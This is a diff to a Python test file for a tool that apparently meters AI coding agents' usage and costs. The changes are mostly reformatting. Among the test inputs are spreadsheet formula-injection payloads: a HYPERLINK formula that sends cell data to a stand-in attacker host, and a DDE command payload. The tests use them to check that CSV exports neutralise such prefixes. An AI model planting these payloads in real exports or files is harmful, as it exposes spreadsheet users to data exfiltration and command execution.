@@ -17,8 +17,14 @@ from conftest import run_cli
 
 from .helpers import BASE_MS, Client, Collector, request
 
-FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
-            "\tleading-tab", "\rleading-cr"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\tleading-tab",
+    "\rleading-cr",
+]
 
 
 @pytest.fixture
@@ -29,16 +35,31 @@ def collector(collector_db):
 
 
 def push_item(key: str, **over) -> dict:
-    item = {"key": key, "day": "2026-11-18", "agent": "claude", "provider": "anthropic", "model": "claude-sonnet-4-5",
-            "repo": "github.com/acme/app", "subscription": False, "requests": 3, "input_tokens": 10,
-            "output_tokens": 5, "cost_usd": 0.5}
+    item = {
+        "key": key,
+        "day": "2026-11-18",
+        "agent": "claude",
+        "provider": "anthropic",
+        "model": "claude-sonnet-4-5",
+        "repo": "github.com/acme/app",
+        "subscription": False,
+        "requests": 3,
+        "input_tokens": 10,
+        "output_tokens": 5,
+        "cost_usd": 0.5,
+    }
     item.update(over)
     return item
 
 
 def push(*items, identity: dict | None = None, **extra) -> dict:
-    return {"schema": "agentmeter.push/1", "device_id": "device-0001", "identity": identity or {},
-            "rollups": list(items), **extra}
+    return {
+        "schema": "agentmeter.push/1",
+        "device_id": "device-0001",
+        "identity": identity or {},
+        "rollups": list(items),
+        **extra,
+    }
 
 
 def report(c: Collector, by: str) -> tuple[int, dict]:
@@ -66,10 +87,13 @@ def test_sums_of_old_rows_cannot_overflow(collector):
     collector.token("x@example.com")  # the store exists
     conn = engine.connect(collector.db)
     for i in range(3):
-        conn.execute("INSERT INTO rollups (developer, item_key, device_id, team, cost_center, day, agent, provider, "
-                     "model, repo, subscription, requests, output_tokens, cost_usd, cost_by_type, received_at) VALUES "
-                     "('old@example.com', ?, 'device-0001', 't', '', '2026-11-18', 'claude', 'anthropic', 'm', '', 0, "
-                     "?, ?, 1.0, '{}', 1)", (f"{i}" * 64, 2**62, 2**62))
+        conn.execute(
+            "INSERT INTO rollups (developer, item_key, device_id, team, cost_center, day, agent, provider, "
+            "model, repo, subscription, requests, output_tokens, cost_usd, cost_by_type, received_at) VALUES "
+            "('old@example.com', ?, 'device-0001', 't', '', '2026-11-18', 'claude', 'anthropic', 'm', '', 0, "
+            "?, ?, 1.0, '{}', 1)",
+            (f"{i}" * 64, 2**62, 2**62),
+        )
     aggregates.rebuild(conn)  # what migration c018 does with the rows an older collector stored
     conn.close()
     status, body = report(collector, "team")
@@ -82,13 +106,37 @@ def test_long_branch_and_model_names_never_block_a_sync(collector, tmp_path):
     long_branch = "feature/" + "b" * 252  # 260 characters: valid in git
     huge_model = "m" * (1024 * 1024)  # echoed back by an upstream
     lg = open_ledger(dev.path)
-    lg.create_session({"id": "s-long", "token_hash": "h-long", "agent": "claude", "repo": "github.com/acme/app",
-                       "branch": long_branch, "started_at": BASE_MS, "developer": "alice@example.com"})
-    lg.insert_request(RequestRecord(
-        request_id="r-huge", session_id="s-long", started_at_ms=BASE_MS + 5, provider="anthropic", api="messages",
-        method="POST", path="/v1/messages", model_requested=huge_model, model_used=huge_model, stream=True,
-        status="ok", http_status=200, usage=Usage(input_tokens=10, output_tokens=2), cost_usd=0.1, agent="claude",
-        repo="github.com/acme/app"))
+    lg.create_session(
+        {
+            "id": "s-long",
+            "token_hash": "h-long",
+            "agent": "claude",
+            "repo": "github.com/acme/app",
+            "branch": long_branch,
+            "started_at": BASE_MS,
+            "developer": "alice@example.com",
+        }
+    )
+    lg.insert_request(
+        RequestRecord(
+            request_id="r-huge",
+            session_id="s-long",
+            started_at_ms=BASE_MS + 5,
+            provider="anthropic",
+            api="messages",
+            method="POST",
+            path="/v1/messages",
+            model_requested=huge_model,
+            model_used=huge_model,
+            stream=True,
+            status="ok",
+            http_status=200,
+            usage=Usage(input_tokens=10, output_tokens=2),
+            cost_usd=0.1,
+            agent="claude",
+            repo="github.com/acme/app",
+        )
+    )
     lg.close()
 
     first = dev.sync(collector.url)
@@ -111,8 +159,7 @@ def _stricter(marker: bytes):
     @web.middleware
     async def refuse(req: web.Request, handler):
         if req.path == "/v1/push" and marker in await req.read():
-            return web.json_response({"error": "invalid", "message": "repo: not allowed", "field": "repo"},
-                                     status=422)
+            return web.json_response({"error": "invalid", "message": "repo: not allowed", "field": "repo"}, status=422)
         return await handler(req)
 
     return refuse
@@ -140,8 +187,10 @@ def test_a_permanently_refused_item_is_skipped_and_never_blocks_the_rest(tmp_pat
 
 def test_team_and_cost_centre_are_the_tokens_not_the_pushs(collector, tmp_path):
     token = collector.token("mallory@example.com", team="payments")  # the admin set no cost centre
-    body = push(push_item("a" * 64, team="search", cost_center="CC-SEARCH"),
-                identity={"developer": "mallory@example.com", "team": "search", "cost_center": "CC-SEARCH"})
+    body = push(
+        push_item("a" * 64, team="search", cost_center="CC-SEARCH"),
+        identity={"developer": "mallory@example.com", "team": "search", "cost_center": "CC-SEARCH"},
+    )
     assert request(f"{collector.url}/v1/push", method="POST", token=token, body=body)[0] == 200
     status, by_team = report(collector, "team")
     assert [r["key"] for r in by_team["rows"]] == ["payments"]
@@ -160,8 +209,20 @@ def test_team_and_cost_centre_are_the_tokens_not_the_pushs(collector, tmp_path):
 
 def test_token_add_sets_the_cost_centre(collector_db):
     db = collector_db
-    r = run_cli("collector", "token", "add", "--db", str(db), "--developer", "a@example.com", "--team", "payments",
-                "--cost-center", "CC-7", "--json")
+    r = run_cli(
+        "collector",
+        "token",
+        "add",
+        "--db",
+        str(db),
+        "--developer",
+        "a@example.com",
+        "--team",
+        "payments",
+        "--cost-center",
+        "CC-7",
+        "--json",
+    )
     assert r.returncode == 0, r.stderr
     assert json.loads(r.stdout)["cost_center"] == "CC-7"
     listed = json.loads(run_cli("collector", "token", "list", "--db", str(db), "--json").stdout)
@@ -177,11 +238,17 @@ def test_token_add_sets_the_cost_centre(collector_db):
         c.close()
 
 
-@pytest.mark.parametrize("raw", [
-    b"[" * 200_000 + b"]" * 200_000,
-    b'{"schema": "agentmeter.push/1", "device_id": "device-0001", "rollups": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
-    b'{"a": ' * 50_000 + b"1" + b"}" * 50_000,
-])
+@pytest.mark.parametrize(
+    "raw",
+    [
+        b"[" * 200_000 + b"]" * 200_000,
+        b'{"schema": "agentmeter.push/1", "device_id": "device-0001", "rollups": '
+        + b"[" * 100_000
+        + b"]" * 100_000
+        + b"}",
+        b'{"a": ' * 50_000 + b"1" + b"}" * 50_000,
+    ],
+)
 def test_malformed_bodies_are_400_never_500(collector, raw):
     token = collector.token("a@example.com")
     status, body, _ = request(f"{collector.url}/v1/push", method="POST", token=token, body=raw)
@@ -206,8 +273,7 @@ def _number(c: str) -> bool:
 
 def test_formula_prefixes_are_neutralised_in_focus_and_local_csv(collector, tmp_path, home):
     token = collector.token("a@example.com")
-    items = [push_item(f"{i:x}" * 64 if i < 10 else "f" * 64, repo=f, model=f, agent=f)
-             for i, f in enumerate(FORMULAS)]
+    items = [push_item(f"{i:x}" * 64 if i < 10 else "f" * 64, repo=f, model=f, agent=f) for i, f in enumerate(FORMULAS)]
     status, got, _ = request(f"{collector.url}/v1/push", method="POST", token=token, body=push(*items))
     assert status == 200 and got["accepted"]["rollups"] == len(FORMULAS), got
     admin = collector.token("admin@example.com", admin=True)
@@ -218,17 +284,44 @@ def test_formula_prefixes_are_neutralised_in_focus_and_local_csv(collector, tmp_
     # The developer's own exports: a repo or branch name is just as much the author's choice.
     home.mkdir(parents=True, exist_ok=True)
     lg = open_ledger(home / "ledger.db")
-    lg.create_session({"id": "s1", "token_hash": "h1", "agent": "claude", "repo": FORMULAS[0],
-                       "branch": FORMULAS[1], "started_at": BASE_MS})
+    lg.create_session(
+        {
+            "id": "s1",
+            "token_hash": "h1",
+            "agent": "claude",
+            "repo": FORMULAS[0],
+            "branch": FORMULAS[1],
+            "started_at": BASE_MS,
+        }
+    )
     for i, f in enumerate(FORMULAS):
-        lg.insert_request(RequestRecord(
-            request_id=f"r{i}", session_id="s1", started_at_ms=BASE_MS + i, provider="anthropic", api="messages",
-            method="POST", path="/v1/messages", model_requested=f, model_used=f, stream=True, status="ok",
-            http_status=200, usage=Usage(input_tokens=10, output_tokens=2), cost_usd=0.1, agent=f, repo=f, branch=f))
+        lg.insert_request(
+            RequestRecord(
+                request_id=f"r{i}",
+                session_id="s1",
+                started_at_ms=BASE_MS + i,
+                provider="anthropic",
+                api="messages",
+                method="POST",
+                path="/v1/messages",
+                model_requested=f,
+                model_used=f,
+                stream=True,
+                status="ok",
+                http_status=200,
+                usage=Usage(input_tokens=10, output_tokens=2),
+                cost_usd=0.1,
+                agent=f,
+                repo=f,
+                branch=f,
+            )
+        )
     lg.close()
-    for args in (("export", "--format", "csv", "--since", "2026-11-01"),
-                 ("report", "--by", "repo", "--format", "csv", "--since", "2026-11-01"),
-                 ("report", "--by", "model", "--format", "csv", "--since", "2026-11-01")):
+    for args in (
+        ("export", "--format", "csv", "--since", "2026-11-01"),
+        ("report", "--by", "repo", "--format", "csv", "--since", "2026-11-01"),
+        ("report", "--by", "model", "--format", "csv", "--since", "2026-11-01"),
+    ):
         r = run_cli(*args)
         assert r.returncode == 0, r.stderr
         assert "'=HYPERLINK" in r.stdout, args
